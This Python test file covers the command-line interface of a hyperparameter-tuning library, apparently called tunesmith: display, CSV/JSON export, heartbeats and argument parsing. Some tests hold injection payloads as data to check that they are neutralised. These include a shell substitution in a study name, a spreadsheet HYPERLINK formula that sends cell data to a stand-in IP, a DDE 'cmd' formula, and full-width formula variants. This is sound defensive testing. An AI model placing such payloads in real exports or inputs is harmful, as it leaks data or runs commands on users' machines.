    study.add_trial({f"learning_rate_{i}": 0.123456 for i in range(12)}, 0.5)
    assert main(["show", "zero", "--storage", url]) == 0
    out = capsys.readouterr().out
    assert "learning_rate_11" in out and out.count("0.1235") == 12 and "zero" in out, out


def test_show_with_thousands_of_parameters_keeps_the_value_readable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A hypertune study with a hyperparameter per weight: before, `tunesmith show` drew 2,000+
    columns into 80 characters, every cell (the value included) squeezed to nothing."""
    db = f"sqlite:///{tmp_path / 'w.db'}"
    space = ts.Space({f"l2.w[{i}]": ts.Float(1e-4, 1.0, log=True) for i in range(300)})
    study = ts.Study(space, storage=db, name="wide", sampler="random", seed=0)
    study.optimize(lambda t: sum(t.params.values()) / 300 + 0.123456, n_trials=3)
    assert run_cli("show", "wide", "--storage", db) == 0
    out = capsys.readouterr().out
    assert f"{study.best_value:.6g}" in out
    said = re.search(r"the first 6 of 300 parameters; (tunesmith export .*) writes them all", " ".join(out.split()))
    assert said is not None and said[1] == f"tunesmith export wide --storage {db}", out  # before: no --storage
    assert run_cli(*shlex.split(said[1])[1:], "--format", "csv") == 0  # pasted: this study, not tunesmith.db's
    assert capsys.readouterr().out.splitlines()[0].count("l2.w[") == 300
    odd = ts.Study(space, storage=db, name="wide $(id)", sampler="random", seed=0)  # pasted, the command runs `id`
    odd.optimize(lambda t: 1.0, n_trials=1)
    assert run_cli("show", "wide $(id)", "--storage", db) == 0
    assert f"tunesmith export 'wide $(id)' --storage {db} writes them all" in " ".join(capsys.readouterr().out.split())
    narrow = ts.Study(ts.Space({f"p{i}": ts.Float(0, 1) for i in range(16)}), storage=db, name="narrow", sampler="random")
    narrow.optimize(lambda t: 1.0, n_trials=1)
    assert run_cli("show", "narrow", "--storage", db) == 0
    assert "parameters; tunesmith export" not in capsys.readouterr().out  # 16 or fewer: every column, as before


def test_export_csv_tells_a_none_value_from_an_inactive_parameter(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A categorical choice None and an inactive parameter were both an empty cell."""
    db = f"sqlite:///{tmp_path / 'n.db'}"
    space = ts.Space({"k": ts.Categorical([None, "rbf", (1, 2), True]), "g": ts.Float(0.1, 1.0, when={"k": "rbf"})})
    study = ts.Study(space, sampler="random", seed=0, storage=db, name="nones")
    for config in ({"k": None}, {"k": "rbf", "g": 0.5}, {"k": (1, 2)}, {"k": True}):
        study.add_trial(config, 1.0)
    assert run_cli("export", "nones", "--storage", db, "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["params_k"], r["params_g"]) for r in rows] == [("None", ""), ("rbf", "0.5"), ("(1, 2)", ""), ("True", "")]


def test_export_csv_writes_list_and_dict_attributes_as_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # before: Python's repr ({'folds': 5, 'err': None}), which json.loads refuses
    db = f"sqlite:///{tmp_path / 'a.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="a", sampler="random")
    cv = {"folds": 5, "scores": [0.9, float("nan")], "err": None, "ok": True}
    study.add_trial({"x": 0.5}, 0.5, attrs={"cv": cv, "tag": "plain"})
    assert run_cli("export", "a", "--storage", db, "--format", "csv") == 0
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert json.loads(row["attrs_cv"]) == {**cv, "scores": [0.9, None]} and row["attrs_tag"] == "plain"


def test_export_csv_gives_the_step_a_pruned_trial_stopped_at_in_a_last_column(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The CSV had a pruned trial's value (its last report) but not the step it stopped at (the JSON's
    reports alone had it). Now a last column, stopped_at_step: the columns before it are as they were."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", sampler="random", seed=0)
    study.add_trial({"x": 0.1}, 0.1, intermediate={1: 0.3, 2: 0.1})
    study.add_trial({"x": 0.2}, state="pruned", intermediate={1: 0.9, 3: 0.8})
    study.add_trial({"x": 0.3}, state="pruned")  # stopped before its first report
    assert run_cli("export", "s", "--storage", db, "--format", "csv") == 0
    text = capsys.readouterr().out
    assert text.splitlines()[0] == "number,state,value,params_x,duration,error,worker,stopped_at_step"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["state"], r["value"], r["stopped_at_step"]) for r in rows] == [
        ("complete", "0.1", ""), ("pruned", "0.8", "3"), ("pruned", "", "")]
    pytest.importorskip("pandas")
    assert study.to_dataframe()["stopped_at_step"].tolist()[1] == 3


def test_show_says_how_to_fail_running_trials_of_a_study_without_heartbeats(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # a killed optimize process leaves its trials running forever; show only counted them
    db = f"sqlite:///{tmp_path / 'r.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="r", sampler="random", seed=0)
    study.add_trial({"x": 0.5}, 0.5)
    study.ask()  # left running, as by a killed process
    assert run_cli("show", "r", "--storage", db) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "1 running trial (#1): this study has no heartbeats" in out and "heartbeat_interval=S" in out
    assert "in a study file, heartbeat_interval: S for tunesmith run or worker" in out  # before: Python's only
    beating = ts.Study(storage=db, name="r", heartbeat_interval=0.01, grace_period=0.05)  # what it advises
    time.sleep(0.1)
    beating.tell(beating.ask(), 0.1)
    assert beating.trials[1].state is ts.TrialState.FAILED
    assert run_cli("show", "r", "--storage", db) == 0
    assert "no heartbeats" not in capsys.readouterr().out


def test_show_tells_a_running_trial_whose_heartbeats_stopped_from_a_live_one(
        shared_storage_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    # a worker killed mid-trial (kill -9) left its trial counted as running, like the live ones, until the
    # next ask of some worker failed it: show said nothing of it. More trials than --top: show then reads
    # the trials' heads, which had no heartbeat, and a live trial that began over the grace ago was called lost
    import sqlalchemy as sa

    from tunesmith.storage.sql_pg import qualified

    db = shared_storage_url
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="h", sampler="random", seed=0,
                     heartbeat_interval=1, grace_period=30, requeue_failed=True)
    for i in range(12):
        study.add_trial({"x": i / 12}, i / 12)
    lost, live = study.ask(), study.ask()
    for t in (lost, live):
        study._heartbeat.finished(t.number)  # this process's beats stop: the test writes them
    now = study.storage.clock()  # the server's on PostgreSQL
    with study.storage.engine.begin() as conn:  # both began long ago; the live one still beats
        conn.execute(sa.text(f"UPDATE {qualified(conn, 'ts_trials')} SET started = :at WHERE study_id = :sid "
                             "AND state = 'running'"),
                     {"at": now - 500, "sid": study._study_id})
    study.storage.heartbeat(study._study_id, [lost.number], now - 100)
    study.storage.heartbeat(study._study_id, [live.number], now - 1)
    assert run_cli("show", "h", "--storage", db) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert (f"1 running trial (#{lost.number}) with no heartbeat for over the grace period of 30 s (its last 10"
            in out), out
    assert "its worker looks lost" in out and "fails it as lost and re-queues it" in out, out
    assert f"#{live.number})" not in out, out
    study.storage.heartbeat(study._study_id, [live.number], now - 200)  # its worker is gone too
    assert run_cli("show", "h", "--storage", db) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert f"2 running trials (#{lost.number}, #{live.number}) with no heartbeat" in out, out
    assert "(the oldest 20" in out and "their workers look lost" in out and "fails them as lost and re-queues them" in out
    study.storage.heartbeat(study._study_id, [lost.number, live.number], now)  # they beat again: nothing to say
    assert run_cli("show", "h", "--storage", db) == 0
    assert "no heartbeat" not in capsys.readouterr().out


def test_export_json_is_strict_json_with_a_nan_attribute(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # before: attrs {"loss": NaN} were written as NaN, which jq and JSON.parse refuse
    url = f"sqlite:///{tmp_path / 'n.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="n", sampler="random")
    study.add_trial({"x": 0.5}, 0.5, attrs={"loss": float("nan"), "curve": [1.0, float("inf")]})
    assert main(["export", "n", "--storage", url, "--format", "json"]) == 0

    def refuse(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")

    doc = json.loads(capsys.readouterr().out, parse_constant=refuse)
    assert doc["trials"][0]["attrs"] == {"loss": None, "curve": [1.0, None]}


def test_a_study_file_given_for_a_study_name_says_what_to_pass(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    # before: only "no study named 'mlp.yaml' in sqlite:///tunesmith.db"
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mlp.yaml").write_text("name: mlp\nobjective: obj.py:f\nstorage: postgresql+psycopg://u:s3cret@db/t\n")
    for cmd in (["show", "mlp.yaml"], ["report", "mlp.yaml"], ["plot", "mlp.yaml", "-o", "p.png"]):
        assert main(cmd) == 2
        err = capsys.readouterr().err
        assert "'mlp.yaml' is a study file: pass its study's name and storage, mlp --storage " \
               "'postgresql+psycopg://u:***@db/t' (with the password in place of ***)" in err, err
        assert "s3cret" not in err

def test_export_csv_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever writes the database chooses texts (a choice, an error, a worker name); a cell such as
    =HYPERLINK(...) ran as a formula when the exported file was opened in a spreadsheet."""
    db = f"sqlite:///{tmp_path / 'f.db'}"
    formula = '=HYPERLINK("http://198.51.100.1/?"&A1,"x")'
    study = ts.Study({"k": ts.Categorical([formula, "@SUM(1)", "plain"])}, storage=db, name="f")
    for k in (formula, "@SUM(1)", "plain"):
        study.add_trial({"k": k}, -1.0)
    study.tell(study.ask(), state="failed", error="+cmd|' /C calc'!A0")
    out = tmp_path / "t.csv"
    assert run_cli("export", "f", "--storage", db, "-o", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["params_k"] for r in rows[:3]] == ["'" + formula, "'@SUM(1)", "plain"]
    assert rows[3]["error"] == "'+cmd|' /C calc'!A0" and [r["value"] for r in rows[:3]] == ["-1.0"] * 3  # numbers stay


@pytest.mark.parametrize("text", [" =1+1", "\n=1+1", "\u3000=1+1", "\uff1d1+1", " \uff0bcmd", "\uff0d1",
                                  "\uff20SUM(1)", "\ufe661", "\tplain", "\rplain"])
def test_export_csv_neutralises_formulas_behind_white_space_or_in_full_width(tmp_path: Path, text: str) -> None:
    """A spreadsheet that trims a cell's leading white space, or reads a full-width ＝ as =, ran these
    as formulas: only an ASCII = + - @ (or a tab, a carriage return) in the first place got the '."""
    db = f"sqlite:///{tmp_path / 'f.db'}"
    study = ts.Study({"k": ts.Categorical([text, " plain", "a=b"])}, storage=db, name="f")
    for k in (text, " plain", "a=b"):
        study.add_trial({"k": k}, 1.0)
    out = tmp_path / "t.csv"
    assert run_cli("export", "f", "--storage", db, "-o", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))  # the \r kept
    assert [r["params_k"] for r in rows] == ["'" + text, " plain", "a=b"]  # texts that start no formula stay


def test_export_csv_quotes_a_text_holding_a_carriage_return_so_its_row_stays_one(tmp_path: Path) -> None:
    """csv wrote a lone \r bare (its line end was \n): a reader split the row there, and the text
    after it, a formula the ' did not cover, started a row of its own."""
    db = f"sqlite:///{tmp_path / 'f.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="f")
    study.tell(study.ask(), state="failed", error="ok\r=1+1")
    study.add_trial({"x": 0.5}, 1.0)
    out = tmp_path / "t.csv"
    assert run_cli("export", "f", "--storage", db, "-o", str(out)) == 0
    raw = out.read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert [r["error"] for r in rows] == ["ok\r=1+1", ""]
    assert raw.count("\n") == 3 and "\r\n" not in raw  # rows still end in \n alone


def test_importance_pairs_under_ped_anova_is_refused_not_ignored(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """--pairs counts fANOVA's pairs; under --method ped-anova it was ignored without a word."""
    url = f"sqlite:///{tmp_path / 'p.db'}"
    study = ts.Study({"x": ts.Float(0, 1), "y": ts.Float(0, 1)}, storage=url, name="p", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"] + 0.1 * t.params["y"], n_trials=30)
    assert main(["importance", "p", "--storage", url, "--method", "ped-anova", "--pairs", "3"]) == 2
    assert "ped-anova measures each parameter alone: leave --pairs out" in capsys.readouterr().err
    assert main(["importance", "p", "--storage", url, "--method", "ped-anova"]) == 0
    assert main(["importance", "p", "--storage", url, "--pairs", "0"]) == 0
    assert "x × y" not in capsys.readouterr().out


def test_show_studies_and_the_report_say_what_sampler_auto_picked(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from tunesmith.plots import snapshot
    from tunesmith.study.manage import PICKED

    db = f"sqlite:///{tmp_path / 'a.db'}"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s").optimize(lambda t: t.params["x"], n_trials=3)
    capsys.readouterr()
    assert run_cli("show", "s", "--storage", db) == 0
    assert "sampler auto (bayes)" in capsys.readouterr().out
    assert run_cli("studies", "--storage", db) == 0
    assert "auto (bayes)" in capsys.readouterr().out
    assert snapshot(ts.load_study("s", db)).sampler == "auto (bayes)"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", load_if_exists=True, sampler="random")
    assert ts.load_study("s", db).sampler_label == "random"  # another sampler: the pick no longer holds
    storage = ts.load_study("s", db).storage  # a study stored before picks were recorded
    rec = storage.get_study("s")
    storage.set_study_config(rec.study_id, {**{k: v for k, v in rec.config.items() if k != PICKED},
                                            "sampler": {"name": "auto", "seed": 0}})
    assert run_cli("show", "s", "--storage", db) == 0
    assert "sampler auto, seed 0)" in capsys.readouterr().out


def test_reopening_with_auto_of_another_seed_keeps_what_auto_picked(tmp_path: Path) -> None:
    """A process opening the study with sampler="auto" (a new random seed: recorded) dropped the pick,
    so show said "auto" until that process asked, and for good if it never did (a worker that found
    the budget spent); the pick depends on the space and the budget, not the seed."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s").optimize(lambda t: t.params["x"], n_trials=3)
    seed = ts.load_study("s", db).sampler.seed
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", load_if_exists=True, sampler="auto", seed=seed + 1)
    assert ts.load_study("s", db).sampler.seed == seed + 1  # recorded
    assert ts.load_study("s", db).sampler_label == "auto (bayes)"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", load_if_exists=True, sampler="tpe")
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", load_if_exists=True, sampler="auto")
    assert ts.load_study("s", db).sampler_label == "auto"  # another sampler ran between: its pick is gone


def test_a_copy_into_another_space_drops_what_auto_picked_for_the_old_one(tmp_path: Path) -> None:
    """The pick depends on the space: a copy into a space of categoricals showed "auto (bayes)" though
    auto picks grid there for a budget of 2; a copy into the same space keeps it."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s")
    study.optimize(lambda t: t.params["x"], n_trials=3)
    assert study.copy("same").sampler_label == "auto (bayes)"
    moved = study.copy("moved", space={"x": ts.Categorical([0.1, 0.5])}, fill={})
    assert moved.sampler_label == "auto"
    moved.optimize(lambda t: t.params["x"], n_trials=2)
    assert ts.load_study("moved", db).sampler_label == "auto (grid)"


def test_export_and_import_carry_what_sampler_auto_picked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An imported study showed "auto" (show, studies, the report) until it ran: the file did not say
    what auto picked. A pick that is no sampler's name, or of a file whose sampler is not auto, is left out."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s").optimize(lambda t: t.params["x"], n_trials=3)
    path = tmp_path / "s.json"
    assert run_cli("export", "s", "--storage", db, "-o", str(path)) == 0
    doc = json.loads(path.read_text())
    assert doc["study"]["sampler_picked"] == "bayes"
    assert run_cli("import", str(path), "t", "--storage", db) == 0
    capsys.readouterr()
    assert run_cli("show", "t", "--storage", db) == 0
    assert "sampler auto (bayes)" in capsys.readouterr().out
    for n, (picked, sampler) in enumerate([("bayes\x1b[2J", "auto"), ("BAYES", "auto"), ("bayes", "random"),
                                            ("auto", "auto")]):  # "auto (auto)": auto picks another
        path.write_text(json.dumps({**doc, "study": {**doc["study"], "sampler_picked": picked, "sampler": sampler}}))
        assert run_cli("import", str(path), f"u{n}", "--storage", db) == 0
        assert ts.load_study(f"u{n}", db).sampler_label == sampler


def test_export_json_of_a_study_renamed_by_another_process_since_it_was_opened(tmp_path: Path) -> None:
    """export_json wrote the name the study was opened with: renamed by another process in between,
    the file named a study that no longer exists (its notes, read later, followed the rename)."""
    from tunesmith.cli.commands import export_json

    db = f"sqlite:///{tmp_path / 'a.db'}"
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s").optimize(lambda t: t.params["x"], n_trials=3)
    opened = ts.load_study("s", db)
    ts.load_study("s", db).rename("t")  # another process
    doc = json.loads(export_json(opened))
    assert doc["study"]["name"] == "t" and doc["study"]["sampler_picked"] == "bayes" and len(doc["trials"]) == 3


def test_a_rename_just_before_the_pick_is_written_leaves_the_new_study_of_the_old_name_alone(tmp_path: Path) -> None:
    """The pick was checked against the study's id, then written by name: another writer renaming
    the study and making a new one under its name in between gave the new study the pick."""
    from tunesmith.storage import SQLStorage, StudyRecord
    from tunesmith.study.manage import PICKED

    db = f"sqlite:///{tmp_path / 'r.db'}"

    class Interleaved(SQLStorage):  # another process writes just before the settings' compare-and-set read
        raced = False

        def get_study(self, name: str) -> StudyRecord:
            if not self.raced and sys._getframe(1).f_code.co_name == "_update_config":
                self.raced = True
                ts.load_study("s", db).rename("t")
                ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", sampler="random")
            return super().get_study(name)

    study = ts.Study({"x": ts.Float(0, 1)}, storage=Interleaved(db), name="s")
    study.tell(study.ask(), 0.5)
    assert study.storage.raced  # type: ignore[attr-defined]
    assert PICKED not in ts.load_study("s", db).storage.get_study("s").config


def test_recording_what_auto_picked_never_fails_an_ask_nor_marks_another_study(tmp_path: Path) -> None:
    from tunesmith.study.manage import PICKED

    db = f"sqlite:///{tmp_path / 'r.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s")
    ts.load_study("s", db).rename("t")  # by another handle, before this one's first ask
    other = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="s", sampler="random")  # a new study, the old name
    study.tell(study.ask(), 0.5)
    assert PICKED not in other.storage.get_study("s").config and len(ts.load_study("t", db).trials) == 1


def _show_both_ways(url: str, name: str, top: int, monkeypatch: pytest.MonkeyPatch,
                    capsys: pytest.CaptureFixture[str]) -> tuple[str, str, list[bool]]:
    """``show``'s output, then the same with every trial read whole first (``study.trials``, as
    before); and for the first, whether each trial decoded was whole (False: a head)."""
    from tunesmith.cli import commands
    from tunesmith.storage import sql_schema

    decoded: list[bool] = []
    decode = sql_schema._decode

    def counted(r: object, head: bool = False) -> ts.FrozenTrial:
        decoded.append(not head)
        return decode(r, head)  # type: ignore[arg-type]

    with monkeypatch.context() as m:
        m.setattr(sql_schema, "_decode", counted)
        assert main(["show", name, "--storage", url, "--top", str(top)]) == 0
    out = capsys.readouterr().out
    with monkeypatch.context() as m:
        m.setattr(commands, "_shown_trials", lambda study, top: study.trials, raising=False)  # the reading before
        assert main(["show", name, "--storage", url, "--top", str(top)]) == 0
    return out, capsys.readouterr().out, decoded


def test_show_names_the_sampler_s_seed_which_runs_the_same_trials_again(tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """The report named the sampler's seed, ``tunesmith show``'s header only the sampler: a study made without
    ``seed=`` (its seed drawn and stored) could not be run again from what ``show`` printed."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    space = ts.Space({"x": ts.Float(-1.0, 1.0)})
    study = ts.Study(space, sampler="sobol", storage=db, name="drawn")
    study.optimize(lambda t: t.params["x"] ** 2, n_trials=4)
    capsys.readouterr()
    assert run_cli("show", "drawn", "--storage", db) == 0
    seed = int(re.search(r"\(minimize, sampler sobol, seed (\d+)\): 4 trials", capsys.readouterr().out).group(1))  # type: ignore[union-attr]
    again = ts.Study(space, sampler="sobol", seed=seed)
    again.optimize(lambda t: t.params["x"] ** 2, n_trials=4)
    assert [t.params for t in again.trials] == [t.params for t in study.trials]


def test_show_names_no_seed_for_a_study_whose_settings_hold_none(tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """A study whose stored sampler has no seed (made by an older tunesmith) opens with one drawn anew each time:
    show and the report named that one, another at each call, as if it ran the study's trials again."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    ts.Study({"x": ts.Float(-1.0, 1.0)}, sampler="random", storage=db, name="old").optimize(
        lambda t: t.params["x"] ** 2, n_trials=2)
    storage = ts.load_study("old", db).storage
    rec = storage.get_study("old")
    storage.set_study_config(rec.study_id, {**rec.config, "sampler": {"name": "random"}})
    assert run_cli("show", "old", "--storage", db) == 0
    assert "(minimize, sampler random): 2 trials" in capsys.readouterr().out
    assert run_cli("report", "old", "--storage", db, "-o", str(tmp_path / "r.html")) == 0
    page = (tmp_path / "r.html").read_text()
    assert "random" in page and not re.search(r"random, seed \d", page)  # the report, as show


def test_show_reads_whole_only_the_trials_it_prints(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """show decoded every trial whole (each report, attribute and curve) to print a count and the
    top trials: 0.4 s of a 5,000-trial study of 50 reports each. Now the heads of all (number,
    state, value, times) and the printed trials whole; the same output as before."""
    sa = pytest.importorskip("sqlalchemy")
    url = f"sqlite:///{tmp_path / 's.db'}"
    study = ts.Study({"x": ts.Float(0, 1), "n": ts.Int(1, 8), "c": ts.Fixed(3)}, storage=url, name="s",
                     sampler="random", seed=0)

    def objective(trial: ts.Trial) -> float:
        if trial.number % 7 == 3:
            raise ValueError(f"bad batch {trial.number}")
        for step in range(1, 21):
            trial.report(trial.params["x"] + 1 / step, step)
        trial.set_attr("overfit_at", 3)
        return trial.params["x"] * trial.params["n"]

    study.optimize(objective, n_trials=60)
    new, old, decoded = _show_both_ways(url, "s", 4, monkeypatch, capsys)
    assert new == old and "best 4 of 51 complete trials" in new and "#59 on" in new
    assert len(decoded) >= 60 and sum(decoded) == 4 + 5  # the top 4 and the last 5 failed, whole
    # a printed trial whose row was spoiled by hand reads as the failed trial study.trials says it is
    best = study.best_trial.number
    engine = sa.create_engine(url)
    with engine.begin() as c:
        c.execute(sa.text("UPDATE ts_trials SET intermediate = '{' WHERE number = :n"), {"n": best})
    engine.dispose()
    new, old, decoded = _show_both_ways(url, "s", 4, monkeypatch, capsys)
    assert new == old and "60 trials (50 complete, 10 failed)" in new and "best 4 of 50 complete trials" in new
    assert sum(decoded) == 5 + 5  # the spoiled best read whole too, and the fifth best


def test_show_of_a_conditional_space_fills_each_column_as_before(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """A parameter that none of the printed trials has still gets its (empty) column, as it did when
    every trial was read: then the history is read whole."""
    url = f"sqlite:///{tmp_path / 'c.db'}"
    space = ts.Space({"opt": ts.Categorical(["sgd", "adam"]), "beta": ts.Float(0.8, 0.99, when={"opt": "adam"}),
                      "x": ts.Float(0, 1)})
    study = ts.Study(space, storage=url, name="c", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"] + (1.0 if t.params["opt"] == "adam" else 0.0), n_trials=30)
    new, old, decoded = _show_both_ways(url, "c", 2, monkeypatch, capsys)
    assert new == old and "beta" in new
    assert sum(decoded) >= 30  # read whole: the top 2 are sgd trials, without beta


def test_show_of_a_long_top_reads_the_history_whole_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """``--top`` over 100 reads every trial whole, as before; it read every trial's head first, for
    nothing (344-352 ms against 300-304 ms at 5,000 trials of 50 reports)."""
    url = f"sqlite:///{tmp_path / 'l.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="l", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=120)
    new, old, decoded = _show_both_ways(url, "l", 101, monkeypatch, capsys)
    assert new == old and "best 101 of 120 complete trials" in new
    assert len(decoded) == 120 and all(decoded)  # no head


def test_show_warns_of_a_printed_trial_whose_parameters_do_not_fit_the_space(
        shared_storage_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        caplog: pytest.LogCaptureFixture) -> None:
    """A best trial whose parameters were changed in the database (x = 5 in [0, 1]) is printed as
    stored; reading only the printed trials whole left out the warning that says why, which
    ``study.trials`` gives (and gave show). SQLite and PostgreSQL."""
    sa = pytest.importorskip("sqlalchemy")
    url = shared_storage_url
    study = ts.Study({"x": ts.Float(0, 1), "n": ts.Int(1, 8)}, storage=url, name="u", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"] * t.params["n"], n_trials=20)
    best = study.best_trial.number
    engine = sa.create_engine(url)
    with engine.begin() as c:
        c.execute(sa.text("UPDATE ts_trials SET params = '{\"x\": 5.0, \"n\": 2}' WHERE number = :n"), {"n": best})
    engine.dispose()
    with caplog.at_level("WARNING", logger="tunesmith"):
        new, old, decoded = _show_both_ways(url, "u", 3, monkeypatch, capsys)
    assert new == old and "5" in new and sum(decoded) == 3
    said = [r.getMessage() for r in caplog.records if "do not fit the space" in r.getMessage()]
    assert len(said) == 2 and all(f"trial {best}: its parameters" in m for m in said)  # show, then study.trials


def test_studies_json_gives_the_latest_finite_trial_time_when_a_row_holds_inf(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One trial whose time was written as inf (by hand) made the study's latest time inf: `studies
    --json` said `last_trial: null` and the table `-`, the other trials' latest time lost."""
    import sqlite3

    db = f"sqlite:///{tmp_path / 'i.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="i", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=3)
    latest = max(t.completed for t in study.trials[1:])
    with sqlite3.connect(tmp_path / "i.db") as con:  # whoever can write the database
        con.execute("UPDATE ts_trials SET completed = ? WHERE number = 0", (float("inf"),))
    assert run_cli("studies", "--storage", db, "--json") == 0
    (row,) = json.loads(capsys.readouterr().out)
    assert row["last_trial"] == latest and row["trials"] == 3
    assert run_cli("studies", "--storage", db) == 0
    assert time.strftime("%Y-%m-%d %H:%M", time.localtime(latest)) in capsys.readouterr().out


def test_show_reads_the_trials_of_the_opened_study_without_looking_it_up_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """show's reading of the printed trials looked the study up again by name (one more query of the
    studies table) where the opened study holds its id; it reads by that id now."""
    from tunesmith.cli.commands import _shown_trials

    url = f"sqlite:///{tmp_path / 'h.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="h", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=6)
    opened = ts.load_study("h", url)
    looked: list[str] = []
    lookup = type(opened.storage).get_study

    def counted(self: ts.SQLStorage, name: str) -> object:
        looked.append(name)
        return lookup(self, name)

    monkeypatch.setattr(type(opened.storage), "get_study", counted)
    shown = _shown_trials(opened, 2)
    assert looked == [] and [t.number for t in shown] == [t.number for t in study.trials]
    assert sorted(shown, key=lambda t: t.value)[:2] == sorted(study.trials, key=lambda t: t.value)[:2]


def test_options_may_come_before_an_optional_positional_argument(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """`TS copy s --storage URL s2` and `TS import s.json --storage URL s2` stopped at "tunesmith: error:
    unrecognized arguments: s2" under the usage line of `tunesmith` itself, while `TS rename s --storage URL
    s2` took the same order: argparse gave an optional NEW_NAME nothing at the first positional."""
    url = f"sqlite:///{tmp_path / 'a.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="s", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=3)
    assert main(["copy", "s", "--storage", url, "s2"]) == 0
    assert main(["export", "s", "--storage", url, "-o", str(tmp_path / "s.json")]) == 0
    assert main(["import", str(tmp_path / "s.json"), "--storage", url, "s3"]) == 0
    capsys.readouterr()
    assert main(["studies", "--storage", url, "--json", "s*"]) == 0
    assert [s["name"] for s in json.loads(capsys.readouterr().out)] == ["s", "s2", "s3"]
    assert main(["focus", "s", "--storage", url, "--keep", "x", "--to", "s4"]) == 0
    assert main(["note", "s", "--storage", url, "--", "-a note that starts with a dash"]) == 0
    capsys.readouterr()
    assert [len(ts.load_study(n, url).trials) for n in ("s2", "s3", "s4")] == [3, 3, 3]
    assert ts.load_study("s", url).notes[-1]["text"] == "-a note that starts with a dash"
    # `--` before every name: argparse's intermixed parse dropped it and read "-s2" as an option; a new name
    # may not begin with '-' (every printed `tunesmith show NAME` would fail), so it reaches the name's check
    assert main(["rename", "--storage", url, "--", "s2", "-s2"]) == 2
    assert "study name '-s2' starts with '-'" in capsys.readouterr().err
    assert main(["show", "--storage", url, "--", "s2"]) == 0
    assert capsys.readouterr().out.startswith("study s2 ")
    with pytest.raises(SystemExit) as exit_:  # what is left over is said with the command's own usage
        main(["show", "s", "--storage", url, "extra"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("usage: tunesmith show ") and err.endswith("tunesmith show: error: unrecognized arguments: extra\n")


def test_run_and_worker_name_the_study_by_its_name_now_when_it_was_renamed_while_they_ran(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Renamed by another process during the run, the study was summed up under its old name, and the
    `tunesmith show` named for its errors read a study that was no longer there (or a new one of that name)."""
